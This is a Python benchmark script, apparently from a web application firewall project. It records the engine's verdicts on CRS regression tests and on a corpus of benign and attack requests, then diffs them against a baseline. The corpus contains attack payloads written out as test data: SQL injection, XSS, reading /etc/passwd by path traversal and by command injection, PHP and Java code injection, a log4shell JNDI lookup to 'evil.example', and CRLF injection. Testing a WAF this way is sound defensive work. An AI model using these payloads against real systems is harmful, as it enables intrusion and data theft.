"""Verdict oracle for the WAF engine: record what it decides for a fixed corpus, and diff two records.

    .venv/bin/python bench/waf_verdicts.py --out /tmp/waf-baseline.json      # record
    .venv/bin/python bench/waf_verdicts.py --compare /tmp/waf-baseline.json  # record again and diff

A speed change to the engine must not change a single verdict. The corpus: (a) every CRS v3.3.4
regression-test request at PL4 with the CRS test TX settings (what the conformance suite runs), and
(b) the bench requests plus a benign and an attack corpus at PL1, each also run with per-request PL 2
and 4 overrides and with a rule exclusion, on one PL1 engine (the gateway's shape). For each request it
keeps the matched rule ids in log order, each match's logdata, the anomaly score, would_block, the
blocking rule and the final TX collection, so a drift in any of them shows.
"""

from __future__ import annotations

import argparse
import json
import os
import sys
import time
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent))

from bench_waf import requests as bench_requests

from garrison.waf import WafEngine, WafRequest, WafResult
from garrison.waf.crs_tests import CRS3_TEST_PARANOIA, CRS3_TEST_TX, load_tests

DATA = Path(os.environ.get("GARRISON_CRS_TESTS", "/work/shared/data"))
TESTS = DATA / "crs-v3.3.4-regression/tests/regression/tests"
H = (("Host", "api.example"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("Accept", "*/*"))
JSON = (*H, ("Content-Type", "application/json"))
FORM = (*H, ("Content-Type", "application/x-www-form-urlencoded"))

# (name, method, target, headers, body): the gateway integration test's attacks and benign requests.
CORPUS: list[tuple[str, str, str, tuple[tuple[str, str], ...], bytes]] = [
    ("sqli", "GET", "/search?q=1%27%20OR%20%271%27%3D%271", H, b""),
    ("sqli-union", "GET", "/search?id=1%20UNION%20SELECT%20password%20FROM%20users--", H, b""),
    ("xss", "GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", H, b""),
    ("path-traversal", "GET", "/files?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd", H, b""),
    ("cmd-injection", "GET", "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", H, b""),
    ("php-injection", "GET", "/x?code=%3C%3Fphp%20system(%27id%27)%3B%20%3F%3E", H, b""),
    ("php-wrapper", "GET", "/x?file=php%3A%2F%2Finput", H, b""),
    ("java-injection", "GET", "/x?c=java.lang.Runtime.getRuntime().exec(%22id%22)", H, b""),
    ("log4shell-arg", "GET", "/x?v=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", H, b""),
    ("crlf-injection", "GET", "/x?lang=en%0d%0aSet-Cookie:%20session=evil", H, b""),
    ("form-sqli", "POST", "/login", FORM, b"user=admin%27--&pass=x"),
    ("json-xss", "POST", "/c", JSON, b'{"comment":"<img src=x onerror=alert(1)>"}'),
    ("json-sqli", "POST", "/validated", JSON, b'{"sku": "1\' OR \'1\'=\'1", "qty": 1}'),
    ("xss-cookie", "GET", "/", (*H, ("Cookie", "s=<script>alert(1)</script>")), b""),
    ("ua-scanner", "GET", "/", (("Host", "a"), ("User-Agent", "sqlmap/1.5"), ("Accept", "*/*")), b""),
    ("no-host", "GET", "/", (("User-Agent", "x"),), b""),
    ("bad-method", "TRACE", "/", H, b""),
    (
        "json-api",
        "POST",
        "/orders",
        JSON,
        json.dumps(
            {
                "sku": "ab-12",
                "qty": 3,
                "note": "Please deliver after 5pm, thanks! (ring twice)",
                "email": "jane.doe+shop@example.com",
                "id": "3f1c2a9e-8b7d-4c6e-9f10-2a3b4c5d6e7f",
                "tags": ["gift", "fragile"],
                "price": {"amount": 12.5, "currency": "EUR"},
            }
        ).encode(),
    ),
    ("json-put", "PUT", "/items/42", JSON, b'{"name": "Widget (large)", "price": 12.5, "active": true}'),
    (
        "json-patch",
        "PATCH",
        "/items/42",
        JSON,
        b'{"price": 9.99, "description": "Now 20% off - limited time"}',
    ),
    ("delete", "DELETE", "/items/3f1c2a9e-8b7d-4c6e-9f10-2a3b4c5d6e7f", H, b""),
    ("search-punct", "GET", "/search?q=C%2B%2B+vs+Rust%3A+what%27s+faster%3F&page=2&sort=-date", H, b""),
    ("search-words", "GET", "/search?q=select+the+best+option+from+the+menu&lang=en-GB", H, b""),
    ("uuid-fields", "GET", "/items/3f1c2a9e-8b7d-4c6e-9f10-2a3b4c5d6e7f?fields=id,name,price", H, b""),
    ("base64", "GET", "/x?blob=SGVsbG8gV29ybGQh%2Fw%3D%3D&cursor=eyJwYWdlIjoyfQ%3D%3D", H, b""),
    ("email", "GET", "/users?email=sean.obrien%40example.com&include=orders", H, b""),
    ("dates", "GET", "/reports?from=2026-01-01T00%3A00%3A00Z&to=2026-02-01&tz=Europe%2FParis", H, b""),
    ("signup-form", "POST", "/signup", FORM, b"name=Jane+Doe&email=jane%40example.com&plan=pro&agree=on"),
]


def record(result: WafResult) -> dict[str, Any]:
    return {
        "ids": sorted(result.matched_ids),
        "order": [m.rule_id for m in result.matches],
        "logdata": [m.logdata for m in result.matches],
        "score": result.anomaly_score,
        "would_block": result.would_block,
        "blocking_rule": result.blocking_rule,
        "tx": dict(sorted(result.tx.items())),
    }


def run(setup: Path, rules: Path) -> dict[str, dict[str, Any]]:
    out: dict[str, dict[str, Any]] = {}
    crs = WafEngine.load([setup, rules], paranoia_level=CRS3_TEST_PARANOIA, tx=CRS3_TEST_TX)
    seen: dict[str, int] = {}
    for t in load_tests(TESTS):
        if t.request is None:
            continue
        n = seen[t.title] = seen.get(t.title, 0) + 1
        out[f"crs/{t.title}#{n}"] = record(crs.inspect(t.request))
    pl1 = WafEngine.load([setup, rules])
    corpus = [(n, WafRequest(m, u, headers=h, body=b)) for n, m, u, h, b in CORPUS]
    corpus += [(f"bench/{n}", make()) for n, make in bench_requests().items()]
    for name, req in corpus:
        out[f"pl1/{name}"] = record(pl1.inspect(req))
        for pl in (2, 3, 4):
            out[f"pl{pl}-override/{name}"] = record(pl1.inspect(req, paranoia_level=pl))
        out[f"excl/{name}"] = record(pl1.inspect(req, remove_rule_ids=(942100, 920350, 941100)))
    return out


def compare(old: dict[str, dict[str, Any]], new: dict[str, dict[str, Any]]) -> int:
    diffs = 0
    for key in sorted(old.keys() | new.keys()):
        a, b = old.get(key), new.get(key)
        if a == b:
            continue
        diffs += 1
        if a is None or b is None:
            print(f"{key}: only in {'new' if a is None else 'baseline'}")
            continue
        for field in a:
            if a[field] != b.get(field):
                print(f"{key}: {field}: {a[field]!r} -> {b.get(field)!r}"[:600])
    return diffs


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", default="", help="write the verdicts to this JSON file")
    ap.add_argument("--compare", default="", help="diff the verdicts against this baseline file")
    ap.add_argument("--rules", default="/usr/share/modsecurity-crs/rules")
    ap.add_argument("--setup", default="/etc/modsecurity/crs/crs-setup.conf")
    args = ap.parse_args()
    t0 = time.perf_counter()
    new = run(Path(args.setup), Path(args.rules))
    print(f"{len(new)} requests in {time.perf_counter() - t0:.1f} s")
    if args.out:
        Path(args.out).write_text(json.dumps(new, indent=0, sort_keys=True))
    if args.compare:
        diffs = compare(json.loads(Path(args.compare).read_text()), new)
        print(f"{diffs} differences on {len(new)} requests")
        return 1 if diffs else 0
    return 0


if __name__ == "__main__":
    sys.exit(main())
